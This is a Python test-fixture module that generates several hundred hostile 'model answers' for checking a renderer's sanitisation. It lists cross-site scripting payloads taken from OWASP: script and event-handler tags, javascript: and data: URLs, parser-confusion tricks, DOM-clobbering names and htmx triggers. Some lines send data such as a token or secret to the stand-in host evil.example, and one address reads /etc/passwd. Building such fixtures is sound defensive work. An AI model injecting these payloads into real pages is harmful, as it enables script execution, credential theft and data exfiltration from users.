"""Answers of a model that tries to run something in a page, to fetch something, or to take the page's names: kinds, each in several places.

``EVIL`` is where a request would go; ``alert`` what would run.
"""

EVIL = "https://evil.example"

_HTML = (
    *(
        "<script>alert(1)</script>",
        f"<script src={EVIL}/x.js></script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<script\n>alert(1)</script\n>",
    ),
    *(
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        '<script type="module">alert(1)</script>',
        "<svg><script>alert(1)</script></svg>",
    ),
    *(
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x oNeRrOr=alert(1)>",
        f'<img src="{EVIL}/beacon.png?q=secret">',
        "<img/src/onerror=alert(1)>",
    ),
    *(
        '<img src="javascript:alert(1)">',
        "<img src=`javascript:alert(1)`>",
        f'<img srcset="{EVIL}/a 1x">',
        f"<picture><source srcset={EVIL}/b></picture>",
    ),
    *(
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        f'<svg><image href="{EVIL}/c"/></svg>',
    ),
    *(
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        f'<svg><use href="{EVIL}/d#x"/></svg>',
        "<svg><style>*{background:url(//evil.example)}",
    ),
    *(
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        f"<iframe src={EVIL}>",
        '<iframe srcdoc="<script>alert(1)</script>">',
    ),
    *(
        "<object data=javascript:alert(1)>",
        f"<object data={EVIL}></object>",
        f"<embed src={EVIL}>",
        "<math><mtext><script>alert(1)</script>",
    ),
    *(
        '<a href="javascript:alert(1)">x</a>',
        "<a href=' javascript:alert(1)'>x</a>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
    ),
    *(
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<a onclick="alert(1)">x</a>',
        '<a href="vbscript:msgbox(1)">x</a>',
    ),
    *(
        f'<link rel=stylesheet href="{EVIL}/x.css">',
        f'<link rel=prefetch href="{EVIL}">',
        f'<base href="{EVIL}/">',
        f"<style>@import '{EVIL}';</style>",
    ),
    *(
        f'<meta http-equiv=refresh content="0;url={EVIL}">',
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    ),
    *(
        f'<form action="{EVIL}"><input name=token></form>',
        f'<button formaction="{EVIL}">x</button>',
        "<input autofocus onfocus=alert(1)>",
    ),
    *(
        "<details open ontoggle=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<video><source onerror=alert(1)>",
        f"<audio src={EVIL} autoplay>",
    ),
    *(
        f'<video poster="{EVIL}/p">',
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>",
    ),
    *(
        f'<div style="background:url({EVIL})">x</div>',
        '<div style="position:fixed;inset:0">Sign in again</div>',
        "<xss id=x tabindex=1 onfocus=alert(1)>",
    ),
    *(
        f'<div hx-get="{EVIL}" hx-trigger="load">x</div>',
        f'<div data-hx-post="{EVIL}" data-hx-trigger="load">x</div>',
        '<div hx-on:load="alert(1)">',
    ),
    *(
        '<p hx-delete="/instances/default/demo" hx-trigger="load">x',
        '<div hx-swap-oob="true" id="main">x</div>',
        '<template hx-partial hx-target="body">x',
    ),
    *(
        '<img name="cookie">',
        '<form id="document"><input name="cookie"></form>',
        '<a id="currentScript" href="x"></a>',
        '<input id="attributes" name="attributes">',
    ),
    *(
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href='javascript:alert(1)'?>",
        "<!DOCTYPE x>",
    ),
    *(
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
    ),
    *(
        "<template><img src=x onerror=alert(1)></template>",
        "<plaintext>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "</main></body><script>alert(1)</script>",
    ),
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "\x3cscript\x3ealert(1)\x3c/script\x3e",
        "<\x00script>alert(1)</script>",
    ),
    *(
        '"><script>alert(1)</script>',
        "'onmouseover=alert(1) x='",
        "{{7*7}}{% include 'x' %}",
        "${alert(1)}",
        "<%= alert(1) %>",
        "\u202e<script>\u2066alert(1)",
    ),
)
"""Elements and attributes, after OWASP's cheat sheet on cross-site scripting."""

_ADDRESSES = (
    *(
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "java&#10;script:alert(1)",
        "javascript&colon;alert(1)",
    ),
    *(
        "&#x6A;avascript:alert(1)",
        "%6Aavascript:alert(1)",
        "\x01javascript:alert(1)",
        "javascript://evil.example/%0aalert(1)",
        "vbscript:x",
    ),
    *(
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/svg+xml,<svg/onload=alert(1)>",
        "file:///etc/passwd",
        "blob:x",
    ),
    *(
        "//evil.example/x",
        "/logout",
        "?signout",
        "#main",
        "https://bank.example@evil.example/",
        "https:evil.example",
        "https:///evil.example",
    ),
    *(
        "https://evil.example\\@bank.example",
        "ftp://evil.example",
        'http://evil.example/" onclick="alert(1)',
        "https://e\u0301vil.example",
        "intent:x",
    ),
)
"""Addresses of links and images."""

_PLACES = ("{}", "text {} text", "> - {}", "| a |\n|---|\n| {} |", "# {}", "```{}\n{}\n```")
_LINKS = (
    "[x](<{}>)",
    "![x](<{}>)",
    "<{}>",
    '[x]\n\n[x]: <{}> "t"',
    '[x](<{}> "\\" onclick=alert(1)")',
    "[![x](<{}>)](<{}>)",
)


def hostile_answers() -> list[str]:
    """Return more than 300 answers."""
    answers = [place.replace("{}", html) for place in _PLACES for html in _HTML]
    return answers + [form.replace("{}", address) for form in _LINKS for address in _ADDRESSES]
